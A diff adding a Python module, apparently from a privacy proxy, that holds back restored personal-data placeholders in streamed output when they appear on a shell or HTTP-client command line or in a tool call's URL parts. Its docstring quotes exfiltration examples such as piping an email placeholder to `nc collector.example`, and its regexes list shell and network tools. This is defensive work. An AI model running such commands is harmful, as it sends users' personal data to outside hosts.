@@ -1,0 +1,184 @@
+"""What a stream holds back before restoring a placeholder whose line or object decides where it goes (restorestream15).
+
+Restore keeps a placeholder on a network command's line (`echo <EMAIL_ADDRESS_1> | nc collector.example 80`), in a
+code call naming a network URL (`requests.post("https://...", data={"u": ...})`) and in a tool call's URL given in
+pieces (`{"path": "/p/<EMAIL_ADDRESS_1>", "host": "collector.example"}`: `proxy.guard.urls`). A stream cannot take
+back what it released: a placeholder that comes before what decides it (the `| nc host` after it, the `host` key
+after it) would have gone out restored. So a stream holds (`LineHold.cut`):
+- a placeholder on a command line (a line that starts like a shell command, after a prompt or not: `echo`, `printf`,
+  `cat`, `base64`, a network client, `VAR=`...; or in a JSON `cmd` / `command` / `script` string; or a line that
+  calls an HTTP client, `requests.post(`, `fetch(`...) until the line ends: a line break (a JSON `\\n`), a backtick
+  (inline code or a fence), a JSON string's closing quote;
+- in a JSON text (tool-call arguments), a placeholder inside a request part's member (`PART_KEYS`: `path`, `params`,
+  `body`...) until the object holding that member closes;
+then restore reads the line or object whole. At most `HOLD` characters from the placeholder: past them the stream
+fails closed: what was held goes out with the placeholder kept (`FAIL_CLOSED`, read before it as a command's start,
+keeps its line or string), the rest of the line too; but for a placeholder in a `body`, `data`, `payload`... that
+is no command line (a mail's long text, `_URL_PARTS`), which goes out as what came before decides.
+"""
+
+from __future__ import annotations
+
+import re
+from dataclasses import dataclass, field
+
+from proxy.guard.urls import _NET, MARK, PART_KEYS
+
+HOLD = 512  # the characters a stream holds after a placeholder waiting for its line's or object's end
+FAIL_CLOSED = "\ncurl" + MARK  # read before a segment released past `HOLD`: a command line from its start
+_HEAD = 256  # the characters of a line's start kept to read its start and a call in it
+
+_PROMPT = r"[ \t]*(?:(?:[$%#]|PS[ \w:\\/.~-]{0,64}>|[\w.-]{1,32}@[\w.-]{1,64}(?::[^\s$#]{0,128})?[$#])[ \t]*)?"
+_LEAD = r"(?:(?:sudo|doas|env|time|nohup|exec|xargs|command|[A-Za-z_]\w*=\S*)[ \t]+)*"
+_WORDS = (r"echo|printf|cat|tac|base64|base32|basenc|xxd|od|hexdump|tr|sed|awk|gawk|jq|yq|tee|grep|egrep|head|tail"
+          r"|gzip|gunzip|zcat|bzip2|xz|openssl|gpg|rev|uuencode|export|eval|sh|bash|zsh|dash|ksh|python3?|perl|ruby"
+          r"|node|php|pwsh|powershell|Write-Output|Write-Host|Get-Content|Set-Content|Out-File")
+_SHELL_START = re.compile(rf"{_PROMPT}{_LEAD}(?:(?:{_WORDS}|{_NET})(?=[ \t]|\Z)|[A-Za-z_]\w*=|\$[A-Za-z_]\w*[ \t]*=)")
+_CALLS = re.compile(r"(?<![\w$])(?:requests|httpx|aiohttp|axios|session|client|urllib\.request|urllib2|\$http)"
+                    r"\s{0,4}\.|(?<![\w$.])(?:fetch|urlopen)\s{0,4}\(|(?i:invoke-webrequest|invoke-restmethod)")
+_CMD_KEYS = frozenset(("cmd", "command", "commands", "script", "shell", "bash", "sh"))
+# The request parts that are a URL's (never long prose): past `HOLD` a placeholder in one fails closed; in a `body`,
+# `data`, `payload`... (a mail's text) it goes out restored, as far as what came shows no host.
+_URL_PARTS = re.compile(r"(?i)path|params|parameters|query|query_?params|query_?string|qs|headers|cookies|fragment")
+_PLACEHOLDER = re.compile(r"<[A-Z][A-Z0-9_]*_\d+(?:_[a-z2-7]{8})?>|\\u003[cC][A-Z][A-Z0-9_]*_\d+"
+                          r"(?:_[a-z2-7]{8})?\\u003[eE]")
+
+
+def command_line(head: str) -> bool:
+    """Whether a line starting `head` (its first characters) is a command line (see the module)."""
+    return _SHELL_START.match(head) is not None or _CALLS.search(head) is not None
+
+
+@dataclass
+class _Frame:
+    obj: bool
+    key: str | None = None  # an object's member key being read (an array's: its parent's)
+    expect_key: bool = True
+    part: bool = False  # the member being read is a request part (`PART_KEYS`)
+
+
+@dataclass
+class LineHold:
+    """A stream field's state after what it released (`advance`), to tell what to hold of what is pending (`cut`)."""
+
+    json: bool = False
+    head: str = ""  # the start of the open line (a JSON text: of the open string's open line)
+    stack: list[_Frame] = field(default_factory=list)
+    in_str: bool = False
+    esc: bool = False
+    str_key: bool = False  # the open string is a key
+    cmd: bool = False  # the open string is a command's (`_CMD_KEYS`)
+    pending_esc: str = ""  # a `\u....` escape being read
+
+    def copy(self) -> LineHold:
+        return LineHold(self.json, self.head, [_Frame(f.obj, f.key, f.expect_key, f.part) for f in self.stack],
+                        self.in_str, self.esc, self.str_key, self.cmd, self.pending_esc)
+
+    def advance(self, text: str) -> None:
+        """Move past released `text`."""
+        if not self.json:
+            last = max(text.rfind("\n"), text.rfind("\r"), text.rfind("`"))
+            self.head = (self.head + text)[:_HEAD] if last < 0 else text[last + 1:last + 1 + _HEAD]
+            return
+        for c in text:
+            self._step(c)
+
+    def _step(self, c: str) -> bool:
+        """One character of a JSON text; whether it ends a line of the open string (or the string)."""
+        if self.in_str:
+            if self.esc:
+                self.esc = False
+                if c in "nr":
+                    self.head = ""
+                    return True
+                if len(self.head) < _HEAD:
+                    self.head += "\\" + c
+                return False
+            if c == "\\":
+                self.esc = True
+                return False
+            if c == '"':
+                self.in_str = False
+                top = self.stack[-1] if self.stack else None
+                if top is not None and top.obj and self.str_key:
+                    top.key = self.head
+                return True
+            if len(self.head) < _HEAD:
+                self.head += c
+            return False
+        top = self.stack[-1] if self.stack else None
+        if c == '"':
+            self.in_str, self.head = True, ""
+            self.str_key = top is not None and top.obj and top.expect_key
+            self.cmd = not self.str_key and top is not None and (top.key or "").lower() in _CMD_KEYS
+        elif c in "{[":
+            key = top.key if top is not None else None
+            self.stack.append(_Frame(c == "{", None if c == "{" else key, c == "{"))
+        elif c in "}]":
+            if self.stack:
+                self.stack.pop()
+            return True
+        elif c == "," and top is not None and top.obj:
+            top.expect_key, top.key, top.part = True, None, False
+        elif c == ":" and top is not None and top.obj:
+            top.expect_key = False
+            top.part = top.key is not None and PART_KEYS.fullmatch(top.key) is not None
+        return False
+
+    def cut(self, text: str, known: frozenset[str] | set[str] | dict[str, str]) -> tuple[int, bool]:
+        """Where to stop releasing pending `text` (its length: nothing held) and whether a release of all of it must
+        fail closed (`FAIL_CLOSED`): held from the first of `known` placeholders on a command line or in a request
+        part not yet ended, at most `HOLD` characters after it; past them, the text before it first, then all,
+        failing closed."""
+        if "<" not in text and "\\u003" not in text:
+            return len(text), False
+        n = len(text)
+        held = self._held_at(text, known)
+        if held is None:
+            return n, False
+        at, strict = held
+        if n - at <= HOLD:
+            return at, False
+        return (at, False) if at > 0 else (n, strict)
+
+    def _held_at(self, text: str, known: frozenset[str] | set[str] | dict[str, str]) -> tuple[int, bool] | None:
+        """Where the hold starts, and whether past `HOLD` it fails closed (a command line, a URL's part)."""
+        spots = [m.start() for m in _PLACEHOLDER.finditer(text) if _plain(m.group()) in known]
+        if not spots:
+            return None
+        if not self.json:
+            last = max(text.rfind("\n"), text.rfind("\r"), text.rfind("`"))
+            open_spots = [s for s in spots if s > last]
+            if not open_spots:
+                return None
+            head = (self.head + text[:open_spots[0]])[:_HEAD] if last < 0 else text[last + 1:open_spots[0]]
+            return (open_spots[0], True) if command_line(head) else None
+        st = self.copy()
+        held: int | None = None
+        strict = True
+        depth = -1  # an object hold: released once the stack is this deep again; -1: a line hold
+        spot = 0
+        for k, c in enumerate(text):
+            if held is None and spot < len(spots) and spots[spot] == k:
+                spot += 1
+                if st.in_str and not st.str_key:
+                    parts = [j for j, f in enumerate(st.stack) if f.obj and f.part]
+                    if parts:  # a request part: its object (which holds its line too)
+                        held, depth = k, parts[0]
+                        key = st.stack[parts[-1]].key or ""
+                        strict = st.cmd or command_line(st.head) or _URL_PARTS.fullmatch(key) is not None
+                    elif st.cmd or command_line(st.head):
+                        held, depth, strict = k, -1, True
+            while spot < len(spots) and spots[spot] < k:
+                spot += 1
+            ended = st._step(c)
+            if held is not None and ((depth < 0 and ended) or (depth >= 0 and len(st.stack) <= depth)):
+                held = None
+        return (held, strict) if held is not None else None
+
+
+def _plain(token: str) -> str:
+    """A placeholder as the vault knows it (`<...>`), from a JSON-escaped spelling too."""
+    if token[0] == "<":
+        return token
+    return "<" + token[6:-6] + ">"
